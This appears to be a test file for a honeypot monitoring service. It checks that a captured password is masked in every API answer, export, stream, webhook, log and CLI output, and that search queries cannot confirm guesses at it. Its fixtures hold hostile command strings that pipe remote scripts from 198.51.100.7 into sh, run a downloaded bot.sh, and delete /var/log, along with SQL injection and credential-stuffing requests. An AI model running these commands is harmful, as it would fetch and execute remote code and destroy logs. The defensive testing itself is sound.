import assert from 'node:assert/strict';
import { after, describe, it, type TestContext } from 'node:test';
import pino from 'pino';
import { newWebhookSecret } from '../../src/notify/channels/webhook.ts';
import { createPlace } from '../support/command-line.ts';
import { startMongo } from '../support/mongo-server.ts';
import { openReceiver } from '../support/notify/receiver.ts';
import { openTestServer, type TestServer } from '../support/server.ts';

const personal = 'Gartenzwerg#77';
const wrong = 'Gartenzwirn#78';
const basic = Buffer.from(`j.doe:${personal}`).toString('base64');
const encoded = encodeURIComponent(personal);
const forms = [personal, encoded, encoded.toLowerCase(), basic];

const planted = (): object[] => {
  const login = { activity: 'login_failed', payload: `j.doe:${personal}` };
  const run = (payload: string) => ({
    activity: 'command',
    payload,
    extra: { session: 's1', input: payload },
  });
  const web = (payload: string, extra: object = {}) => ({
    service: 'http',
    activity: 'http request',
    payload,
    extra,
  });
  return [
    { ...login, extra: { username: 'j.doe', password: personal, session: 's1', note: `it was ${personal}` } },
    { ...login, activity: 'login_success', extra: { username: 'j.doe', password: personal, session: 's1' } },
    { ...login, extra: { session: 's2' } },
    run(`echo root:${personal} | chpasswd`),
    run(`echo -e "${personal}\\n${personal}" | passwd`),
    run(`mysql -uroot -p${personal} -e 'select 1'; rm -rf /var/log`),
    run(`sshpass -p ${personal} ssh root@10.0.0.1 'wget http://198.51.100.7/x.sh -O- | sh'`),
    run(`curl -u admin:${personal} http://198.51.100.7/x.sh | sh`),
    run(`wget ftp://joe:${encoded}@198.51.100.7/bot.sh; chmod +x bot.sh; ./bot.sh`),
    run(`curl -H 'Authorization: Basic ${basic}' http://198.51.100.7/`),
    web(`POST /wp-login.php HTTP/1.1\r\nHost: a\r\n\r\nlog=admin&pwd=${encoded}&wp-submit=1`, {
      path: `/wp-login.php?user=joe&password=${encoded}`,
      headers: { 'User-Agent': 'x', Authorization: `Basic ${basic}` },
    }),
    web(
      `GET /?q=1'+OR+1=1--&password=${encoded} HTTP/1.1\r\nAuthorization: Basic ${basic}\r\nHost: a\r\n\r\n`,
    ),
    web(`POST /api HTTP/1.1\r\nHost: a\r\n\r\n{"user":"joe","password":"${personal}"}`),
    {
      service: 'ftp',
      activity: 'file downloaded',
      payload: `ftp://joe:${personal}@198.51.100.7/x`,
      extra: { url: `ftp://joe:${personal}@198.51.100.7/x`, session: 's1' },
    },
    { service: 'smtp', activity: 'data', payload: `USER joe\r\nPASS ${personal}\r\n` },
  ];
};

/** Ids, names and addresses in an answer, to be put into other paths. */
function harvest(value: unknown, into: Set<string>, name = ''): void {
  if (typeof value === 'string') {
    if (/(?:^|_)(?:id|ip|session)$/.test(name) && value.length < 200) into.add(value);
  } else if (Array.isArray(value)) for (const part of value) harvest(part, into, name);
  else if (typeof value === 'object' && value !== null)
    for (const [inner, part] of Object.entries(value)) harvest(part, into, inner);
}

async function attacked(t: TestContext, env: Record<string, string> = {}) {
  const lines: string[] = [];
  const receiver = await openReceiver();
  t.after(() => receiver.close());
  const server = await openTestServer({
    env: { NOTIFY_ALLOW_PRIVATE: '127.0.0.1', ...env },
    overrides: { log: pino({ level: 'trace' }, { write: (line: string) => void lines.push(line) }) },
  });
  t.after(() => server.close());
  const owner = await server.createUser();
  const node = await server.createNode(owner);
  const asOwner = <T>(method: string, path: string, body?: unknown) =>
    server.call<T>(method, path, { headers: owner.headers, body });
  await asOwner('POST', '/api/channels', {
    name: 'SOC',
    channel: 'webhook',
    settings: { url: `${receiver.url}/hook`, secret: newWebhookSecret() },
  });
  const key = async (scopes: string[]) => {
    const made = await asOwner<{ key: string }>('POST', '/api/keys', { name: scopes.join('+'), scopes });
    assert.equal(made.status, 200, JSON.stringify(made.body));
    return made.body.key;
  };
  const stranger = await key(['read', 'triage']);
  const send = async (event: object, expected = 200) => {
    const body = { timestamp: new Date().toISOString(), service: 'ssh', source_ip: '203.0.113.9', ...event };
    const { status } = await server.call('POST', '/api/honeypot-log', {
      headers: { 'x-node-key': node.key },
      body,
    });
    assert.equal(status, expected);
  };
  for (const event of planted()) await send(event);
  await send({ payload: `joe:${personal}`, extra: { password: personal }, timestamp: 'never' }, 422);
  return { server, owner, asOwner, stranger, receiver, lines, node };
}

function checkText(text: string, where: string): void {
  for (const form of forms) {
    const at = text.indexOf(form);
    assert.equal(at, -1, `${where}: …${text.slice(Math.max(0, at - 200), at + 60)}…`);
  }
}

/** Every GET route, with every id that earlier answers told. */
async function walkReads(server: TestServer, headers: Record<string, string>): Promise<Set<string>> {
  const ids = new Set<string>();
  const met = new Set<string>();
  const routes = server.app.routeTable.filter(
    ({ method, path, access }) =>
      method === 'GET' &&
      typeof access === 'object' &&
      'user' in access &&
      // Only with the right to see them.
      access.user !== 'secrets' &&
      path !== '/api/live',
  );
  const ask = async (path: string, name: string): Promise<void> => {
    const { status, body } = await server.call('GET', path, { headers });
    const text = typeof body === 'string' ? body : JSON.stringify(body);
    checkText(text, `GET ${path}`);
    if (status === 200) {
      met.add(name);
      harvest(body, ids);
    }
  };
  const kinds = ['password', 'credential', 'command', 'command_form', 'url', 'path', 'user', 'file'];
  const queries: Readonly<Record<string, string[]>> = {
    '/api/observables': kinds.flatMap((kind) => [`?kind=${kind}`, `?kind=${kind}&sort=rise`]),
    '/api/observables/export': kinds.flatMap((kind) => [`?kind=${kind}`, `?kind=${kind}&format=csv`]),
    '/api/search': ['?q=j.doe', '?q=203.0.113.9', '?q=wget', '?q=Garten'],
    '/api/top': ['?of=source', '?of=service'],
  };
  for (const { path } of routes)
    if (!path.includes(':'))
      for (const query of queries[path] ?? (path.endsWith('/export') ? ['', '?format=csv'] : ['']))
        await ask(path + query, path);
  const sessions = [...ids].filter((id) => /^s\d$/.test(id));
  for (const { path } of routes) {
    const [first, second] = path.match(/:\w+/g) ?? [];
    if (first === undefined) continue;
    for (const id of ids) {
      const one = path.replace(first, encodeURIComponent(id));
      if (second === undefined) await ask(one, path);
      else for (const session of sessions) await ask(one.replace(second, session), path);
    }
  }
  return new Set(routes.map(({ path }) => path).filter((path) => !met.has(path)));
}

describe('a masked password', () => {
  it('is in no answer, export, stream, message or log line, wherever it was sent', async (t) => {
    const { server, owner, asOwner, stranger, receiver, lines } = await attacked(t);
    const ended = new AbortController();
    const live = await fetch(`${server.address}/api/live`, {
      headers: { authorization: `Bearer ${stranger}`, 'last-event-id': '' },
      signal: ended.signal,
    });
    const reader = live.body!.getReader();

    const unmet = await walkReads(server, { authorization: `Bearer ${stranger}` });
    // Those that need more than `read`, and those of things that this test does not make, have tests of their own.
    const few = [...unmet].filter((path) => !path.startsWith('/api/audit'));
    assert.deepEqual(
      few.filter((path) =>
        /events|alert|incident|attack|session|observ|search|export|logs|deliver|problem/.test(path),
      ),
      [],
    );
    await walkReads(server, owner.headers);
    // A request is logged without what was asked in it.
    for (const path of ['/api/search?q=', '/api/logs?search=', '/api/events?q=payload:'])
      await asOwner('GET', path + encoded);

    const { body: listed } = await asOwner<{ items: { id: string; masked: boolean }[] }>(
      'GET',
      '/api/observables?kind=password',
    );
    const hidden = listed.items.find(({ masked }) => masked);
    assert.ok(hidden);
    const { body: revealed } = await asOwner<{ value: string }>(
      'POST',
      `/api/observables/${hidden.id}/reveal`,
    );
    assert.equal(revealed.value, personal);
    const { body: audit } = await asOwner('GET', '/api/audit');
    assert.match(JSON.stringify(audit), /reveal/);
    checkText(JSON.stringify(audit), 'audit log');

    await server.call('POST', '/api/honeypot-log', {
      headers: { 'x-node-key': (await server.createNode(owner, 'b')).key },
      body: {
        ...{ timestamp: new Date().toISOString(), service: 'ssh', source_ip: '203.0.113.10' },
        ...{
          activity: 'command',
          payload: `sshpass -p ${personal} ssh h; echo fin`,
          extra: { session: 'z' },
        },
      },
    });
    let streamed = '';
    while (!streamed.includes('echo fin')) streamed += new TextDecoder().decode((await reader.read()).value);
    ended.abort();
    checkText(streamed, 'live stream');

    for (let tries = 0; receiver.seen.length === 0 && tries < 200; tries++)
      await new Promise((resolve) => setTimeout(resolve, 25));
    assert.ok(receiver.seen.length > 0);
    for (const { url, body, headers } of receiver.seen)
      checkText(url + body + JSON.stringify(headers), 'message');
    assert.ok(lines.length > 0);
    checkText(lines.join(''), 'log');
  });

  it('is in nothing that the command line prints with a key that may not see it', async (t) => {
    const { server, stranger } = await attacked(t);
    const place = createPlace(t);
    const at = ['--url', server.address, '--key', stranger];
    const lists = ['events', 'incidents', 'sessions', 'attackers'].flatMap((list) => [
      [list, ...at],
      [list, '--json', ...at],
    ]);
    for (const kind of ['password', 'credential', 'command', 'url'])
      lists.push(['observables', kind, ...at], ['export', 'observables', '--kind', kind, ...at]);
    lists.push(['export', 'events', '--format', 'csv', ...at], ['search', 'j.doe', ...at]);
    for (const args of lists) {
      const { code, stdout, stderr } = await place.run(args);
      assert.equal(code, 0, `${args.join(' ')}: ${stderr}`);
      checkText(stdout + stderr, args.join(' '));
    }
  });
});

async function guesses(t: TestContext, env: Record<string, string> = {}): Promise<void> {
  const { server, stranger, asOwner } = await attacked(t, env);
  const headers = { authorization: `Bearer ${stranger}` };
  const both = async (path: (guess: string) => string): Promise<void> => {
    const answers = await Promise.all(
      [personal, wrong].map(async (guess) => {
        const { status, body } = await server.call('GET', path(encodeURIComponent(guess)), { headers });
        return { status, body: JSON.stringify(body).replaceAll(guess, '<guess>') };
      }),
    );
    assert.deepEqual(answers[0], answers[1], path('guess'));
  };
  const queries = (guess: string) => [
    ...[guess, `payload:${guess}`, `-payload:${guess}`, `payload:*${guess}*`, `"${guess}"`],
    ...[`payload:${guess} OR risk>=9`, `service:ssh -(payload:${guess} risk>=1)`, `NOT "${guess}"`],
    ...[`activity:${guess}`, `payload:(${guess}, zzz)`, `-payload:(${guess}) payload:j.doe`],
  ];
  for (let n = 0; n < queries('').length; n++)
    for (const rest of ['', '&limit=1', '&limit=3', '&service=ssh'])
      await both(
        (guess) => `/api/events?q=${encodeURIComponent(queries(decodeURIComponent(guess))[n] ?? '')}${rest}`,
      );
  // Letter by letter: beginnings that are right and wrong find the same.
  const start = async (text: string) => {
    const path = `/api/events?limit=1&q=${encodeURIComponent(`payload:"j.doe:${text}"`)}`;
    return JSON.stringify((await server.call('GET', path, { headers })).body);
  };
  assert.equal(await start('Gartenz'), await start('Garbage'));
  await both((guess) => `/api/logs?search=${guess}`);
  await both((guess) => `/api/search?q=${guess}`);
  await both((guess) => `/api/search?q=${encodeURIComponent(`j.doe:${decodeURIComponent(guess)}`)}`);
  await both((guess) => `/api/events/export?q=payload:${guess}`);
  await both((guess) => `/api/events/export?format=csv&q=-payload:${guess}`);
  const since = new Date(Date.now() - 3 * 24 * 60 * 60_000).toISOString();
  for (const kind of ['password', 'credential', 'command', 'command_form', 'url', 'path'])
    for (const rest of ['', '&limit=1', '&sort=rise', '&sort=first_seen&limit=1', `&from=${since}`])
      await both((guess) => `/api/observables?kind=${kind}&q=${guess}${rest}`);
  await both((guess) => `/api/observables/export?kind=password&q=${guess}`);
  const condition = { sources: ['203.0.113.9'], text: personal, max_risk: 5 };
  for (const path of ['/api/suppressions/preview', '/api/suppressions'])
    assert.equal(
      (
        await server.call('POST', path, {
          headers,
          body: path.endsWith('preview') ? { condition } : { name: 'x', condition },
        })
      ).status,
      403,
      path,
    );
  // What is shown is found, also without the right; and with it the password is.
  const found = async (path: string, as: Record<string, string> | null) =>
    (as === null
      ? await asOwner<{ items: object[] }>('GET', path)
      : await server.call<{ items: object[] }>('GET', path, { headers: as })
    ).body.items.length;
  assert.ok((await found('/api/events?q=payload:chpasswd', headers)) > 0);
  assert.ok((await found('/api/events?q=payload:j.doe%20-payload:nothing&limit=1', headers)) > 0);
  assert.ok((await found('/api/observables?kind=command&q=chpasswd', headers)) > 0);
  assert.ok((await found(`/api/events?q=payload:${encodeURIComponent(`"${personal}"`)}`, null)) > 0);
  assert.ok((await found(`/api/observables?kind=password&q=${encoded}`, null)) > 0);
}

const mongo = await startMongo();

describe('a query of somebody who may not see passwords', () => {
  after(() => mongo?.close());

  it('answers a right guess as a wrong one', (t) => guesses(t));

  it('does so on MongoDB too', { skip: mongo === null }, (t) =>
    guesses(t, { MONGODB_URI: mongo?.uri ?? '', DATABASE_NAME: mongo?.newDatabase() ?? '' }),
  );
});
